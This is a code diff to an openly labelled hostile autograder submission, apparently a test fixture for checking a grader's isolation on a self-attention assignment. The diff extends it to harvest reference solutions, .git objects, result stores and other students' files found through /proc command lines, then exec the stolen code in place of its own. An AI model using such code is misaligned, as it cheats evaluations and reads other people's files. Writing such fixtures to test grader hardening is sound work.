@@ -1,9 +1,11 @@
-"""Hostile submission (sa_read_solution): looks for the reference solution, the hidden suite and grading.yml where the grader lives, and runs the solution in place of its own SelfAttention if it can read it. SelfAttention is sa_no_scaling's (no 1/sqrt(d_k)); it must score exactly as that file."""
+"""Hostile submission (sa_read_solution): looks for the reference solution, the hidden suite, grading.yml, the project's .git (whose objects hold the solution), stores and results where the grader lives, where the editable install's finder says the project is, and in every folder named on a process's command line; runs the solution in place of its own SelfAttention if it can read it. SelfAttention is sa_no_scaling's (no 1/sqrt(d_k)); it must score exactly as that file."""
 import math
 import glob
 import os
+import re
 import runpy
 import sys
+import zlib
 from dataclasses import dataclass
 
 import torch
@@ -39,18 +41,50 @@ class SelfAttention(nn.Module):
 
 # Where the grader lives on Gradescope; the project's tests replace it with the project's root.
 GRADER_ROOT = "/autograder/source"
-SECRETS = ("solutions/*.py", "tests/submissions/correct/*.py", "autograder/properties/*.py", "grading.yml")
+SECRETS = ("solutions/*.py", "tests/submissions/correct/*.py", "autograder/properties/*.py", "grading.yml",
+           ".git/HEAD", ".git/config", ".git/objects/??/*", ".git/objects/pack/*.pack", "*.sqlite", "*/results.json",
+           "*.py", "*/*.py")
+
+
+def _roots():
+    """Where secrets may be: the grader's folder, the project the editable finder names, and
+    every folder on any process's command line (a batch's submissions folder or --db)."""
+    roots = {GRADER_ROOT}
+    for finder in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "__editable__*finder.py")):
+        try:
+            text = open(finder, encoding="utf-8").read()
+        except OSError:
+            continue
+        roots.update(os.path.dirname(os.path.dirname(path)) for path in re.findall(r"'(/[^']+/autograder)'", text))
+    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
+        try:
+            arguments = open(cmdline, "rb").read().decode(errors="replace").split("\0")
+        except OSError:
+            continue
+        for argument in arguments:
+            if argument.startswith("/") and os.path.isdir(argument):
+                roots.add(argument)
+    return roots
 
 
 def _steal():
     stolen = {}
-    for pattern in SECRETS:
-        for path in [os.path.join(GRADER_ROOT, pattern), *glob.glob(os.path.join(GRADER_ROOT, pattern))]:
-            try:
-                with open(path, encoding="utf-8") as handle:
-                    stolen[path] = handle.read()
-            except OSError:
-                pass
+    for root in sorted(_roots()):
+        for pattern in SECRETS:
+            for path in glob.glob(os.path.join(root, pattern)):
+                try:
+                    with open(path, "rb") as handle:
+                        data = handle.read()
+                except OSError:
+                    continue
+                if path.startswith(os.getcwd()) or os.path.join("worker", "") in path:
+                    continue  # its own copy, and the worker's code beside it, are no secrets
+                stolen[path] = data.decode("utf-8", "replace")
+                if "/.git/objects/" in path and not path.endswith(".pack"):
+                    try:
+                        stolen[path] = zlib.decompress(data).decode("utf-8", "replace")
+                    except zlib.error:
+                        pass
     try:
         stolen["run solutions/attention.py"] = runpy.run_path(os.path.join(GRADER_ROOT, "solutions", "attention.py"))
     except Exception:
@@ -65,13 +99,25 @@ def _steal():
     return stolen
 
 
+def _scales(text):
+    """Whether the text's own SelfAttention divides by a square root (not this file's)."""
+    start = text.find("class SelfAttention")
+    end = text.find("\nclass ", start + 1)
+    return start >= 0 and "sqrt" in text[start:end if end > 0 else None] and "def _steal" not in text
+
+
 STOLEN = _steal()
 print(f"read {len(STOLEN)} secret(s): {sorted(STOLEN)}")
 for _path, _text in STOLEN.items():
-    if _path.endswith("solutions/attention.py"):
+    if _scales(_text):  # the solution, or a classmate's work
+        _text = _text[_text.find("import"):]
         _solution = {}
-        exec(compile(_text, _path, "exec"), _solution)
-        SelfAttention = _solution["SelfAttention"]  # noqa: F811
+        try:
+            exec(compile(_text, _path, "exec"), _solution)
+            SelfAttention = _solution["SelfAttention"]  # noqa: F811
+            break
+        except Exception:
+            continue
 
 
 class MultiHeadAttention(nn.Module):
